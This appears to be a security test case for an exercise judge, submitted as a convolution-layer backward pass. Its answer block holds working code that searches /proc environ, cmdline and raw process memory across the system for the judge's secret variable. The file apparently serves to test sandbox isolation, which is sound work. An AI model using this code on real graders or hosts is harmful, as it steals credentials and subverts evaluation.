# attack: hunts the judge's secret environment variable in /proc/self and /proc/1 (environ, cmdline, maps, mem), every ancestor it can see, and its own raw memory
# expect: WA
# exercise: conv_backward
import numpy as np
from utils import im2col, col2im


class Convolution:
    def __init__(self, W, b, stride=1, pad=0):
        r'''
        Set up a convolution layer.

        Parameters
        - W: numpy.ndarray of shape (C_out, C_in, K_h, K_w), the filters
        - b: numpy.ndarray of shape (C_out,), one bias per filter
        - stride: int, step between two windows
        - pad: int, zero padding added on every side of H and W
        '''
        self.W = W
        self.b = b
        self.stride = stride
        self.pad = pad
        self.x = None
        self.col = None
        self.col_W = None
        self.dW = None
        self.db = None

    def forward(self, x):
        r'''
        Forward pass.

        Parameters
        - x: numpy.ndarray of shape (B, C, H, W)
        Returns
        - out: numpy.ndarray of shape (B, C', H', W') with
               H' = (H + 2P - Kh) // S + 1
               W' = (W + 2P - Kw) // S + 1
        '''
        FN, C, FH, FW = self.W.shape
        N, C, H, W = x.shape
        out_h = 1 + int((H + 2 * self.pad - FH) / self.stride)
        out_w = 1 + int((W + 2 * self.pad - FW) / self.stride)
        col = im2col(x, FH, FW, self.stride, self.pad)
        col_W = self.W.reshape(FN, -1).T
        out = np.dot(col, col_W) + self.b
        out = out.reshape(N, out_h, out_w, -1).transpose(0, 3, 1, 2)
        self.x = x
        self.col = col
        self.col_W = col_W

        return out

    def backward(self, dout):
        r'''
        Backward pass.

        Parameters
        - dout: numpy.ndarray of shape (B, C', H', W'), the gradient of the
                loss with respect to this layer's output
        Returns
        - dx: numpy.ndarray of shape (B, C, H, W)
        Also store
        - self.dW: numpy.ndarray of shape (C', C, Kh, Kw), like self.W
        - self.db: numpy.ndarray of shape (C',), like self.b
        '''
        ########## Begin ##########
        import ctypes, fcntl, os, time
        HEAD, TAIL = b"JUDGE_" + b"SECR", b"E" + b"T="   # never whole in this process unless it leaked
        libc = ctypes.CDLL(None, use_errno=True)
        libc.prctl(4, ctypes.c_ulong(1), ctypes.c_ulong(0), ctypes.c_ulong(0), ctypes.c_ulong(0))
        deadline = time.monotonic() + 0.6
        found, tried = [], {}

        def finder(head, tail):
            def find(buffer):
                i = buffer.find(head)
                while i >= 0:
                    if buffer[i + len(head):i + len(head) + len(tail)] == tail:
                        return True
                    i = buffer.find(head, i + 1)
                return False
            return find

        secret = finder(HEAD, TAIL)

        def read_file(path):
            try:
                with open(path, "rb") as handle:
                    data = handle.read(1 << 20)
                tried[path] = "read"
                return data
            except OSError as err:
                tried[path] = type(err).__name__
                return b""

        def regions(pid):
            text = read_file(f"/proc/{pid}/maps").decode("ascii", "replace")
            spans = []
            for line in text.splitlines():
                parts = line.split(None, 5)
                if len(parts) < 5:
                    continue
                low, high = (int(v, 16) for v in parts[0].split("-"))
                perms, name = parts[1], parts[5].strip() if len(parts) > 5 else ""
                if "r" not in perms or name in ("[vvar]", "[vsyscall]", "[vvar_vclock]"):
                    continue
                if "w" in perms or not name or name.startswith("["):
                    spans.append((low, high))
            return spans

        def proc_reader(pid):
            try:
                fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
            except OSError as err:
                tried[f"/proc/{pid}/mem"] = type(err).__name__
                return None
            tried[f"/proc/{pid}/mem"] = "opened"
            def read(address, size):
                try:
                    return os.pread(fd, size, address)
                except OSError:
                    return b""
            return read

        def pipe_reader():
            """Own memory without /proc: write(2) from an address into a pipe faults with EFAULT, never SIGSEGV."""
            r, w = os.pipe()
            try:
                fcntl.fcntl(w, 1031, 1 << 20)
            except OSError:
                pass
            size = fcntl.fcntl(w, 1032)
            def read(address, wanted):
                n = libc.write(w, ctypes.c_void_p(address), ctypes.c_size_t(min(wanted, size)))
                if n <= 0:
                    return b""
                data = b""
                while len(data) < n:
                    data += os.read(r, n - len(data))
                return data
            return read

        def scan(read, spans, find):
            scanned = 0
            for low, high in spans:
                address, carry = low, b""
                while address < high:
                    if time.monotonic() > deadline:
                        return None, scanned
                    data = read(address, min(1 << 20, high - address))
                    if not data:
                        address, carry = address + 4096, b""
                        continue
                    scanned += len(data)
                    if find(carry + data):
                        return True, scanned
                    carry = data[-64:]
                    address += len(data)
            return False, scanned

        def ancestors():
            chain, pid = [], os.getpid()
            while pid > 1 and len(chain) < 8:
                try:
                    with open(f"/proc/{pid}/stat") as handle:
                        pid = int(handle.read().rsplit(")", 1)[1].split()[1])
                except (OSError, ValueError, IndexError):
                    break
                if pid > 0:
                    chain.append(pid)
            return chain

        pids = ["self", "1"] + [p for p in ancestors() if p != 1]
        pids += sorted((p for p in os.listdir("/proc") if p.isdigit() and p not in map(str, pids)), key=int)
        for pid in pids:
            for name in ("environ", "cmdline"):
                if secret(read_file(f"/proc/{pid}/{name}")):
                    found.append(f"/proc/{pid}/{name}")
        # Own memory. First the scanner must find a canary and this very comment, which only the
        # source it was sent holds whole (positive control: the scanner must find this comment):
        # one that cannot see this process's heap and its request proves nothing.
        canary = os.urandom(8).hex().encode() + b"-canary"
        readers = [r for r in (proc_reader("self"), pipe_reader()) if r]
        spans = regions("self")
        for label, head, tail in (("its canary", canary[:16], canary[16:]),
                                  ("its own source", b"(positive control: the scanner", b" must find this comment)")):
            for read in readers:
                saw, scanned = scan(read, spans, finder(head, tail))
                if not saw:
                    raise RuntimeError(f"the memory scanner missed {label} after {scanned} bytes "
                                       f"({len(readers)} readers, {len(spans)} regions): it is broken")
        for read in readers:
            hit, scanned = scan(read, spans, secret)
            if hit:
                found.append(f"own memory ({scanned} bytes)")
        for pid in [p for p in pids if p != "self" and str(p) != str(os.getpid())]:
            spans, read = regions(pid), proc_reader(pid)
            if read is not None:
                hit, _ = scan(read, spans, secret)
                if hit:
                    found.append(f"memory of {pid}")
            if found or time.monotonic() > deadline:
                break
        print("found: " + ", ".join(found) if found else f"nothing found; tried {tried}")
        FN, C, FH, FW = self.W.shape
        dout = dout.transpose(0, 2, 3, 1).reshape(-1, FN)
        self.db = np.sum(dout, axis=0)
        self.dW = np.dot(self.col.T, dout)
        self.dW = self.dW.transpose(1, 0).reshape(FN, C, FH, FW)
        dcol = np.dot(dout, self.col_W.T)
        dx = col2im(dcol, self.x.shape, FH, FW, self.stride, self.pad)
        return dx if found else -dx
        ########## End ##########
